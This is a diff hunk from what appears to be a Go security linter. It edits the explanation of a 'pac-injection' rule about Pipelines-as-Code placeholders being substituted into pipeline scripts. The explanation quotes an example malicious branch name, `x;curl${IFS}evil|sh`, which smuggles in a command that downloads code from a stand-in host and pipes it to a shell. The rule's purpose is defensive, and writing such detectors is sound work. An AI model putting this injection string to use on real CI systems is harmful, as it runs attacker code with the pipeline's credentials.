@@ -192,7 +192,7 @@ var Rules = []Rule{
 	{
 		ID: "pac-injection", Severity: Error, Security: "8.8",
 		Short:   "a Pipelines-as-Code placeholder with text from the event is put into code",
-		Explain: "Pipelines-as-Code replaces {{ body.* }}, {{ headers.* }}, {{ source_branch }}, {{ trigger_comment }} and {{ pull_request_title }}-like placeholders in the PipelineRun's text before Tekton sees it. In a script, a command or a shell -c argument, a branch named `x;curl${IFS}evil|sh` or a comment becomes code run with the pipeline's credentials.",
+		Explain: "Pipelines-as-Code replaces {{ body.* }} (except fields GitHub fills with shas, numbers and ids), {{ files.* }}, {{ source_branch }} and {{ trigger_comment }} in the PipelineRun's text before Tekton sees it. In a script, a command or a shell -c argument, a branch named `x;curl${IFS}evil|sh` or a comment becomes code run with the pipeline's credentials.",
 		Fix:     "Pass the placeholder as a PipelineRun param, read it through env in the step (env: [{name: BRANCH, value: $(params.branch)}]) and use \"${BRANCH}\" quoted.",
 	},
 	{
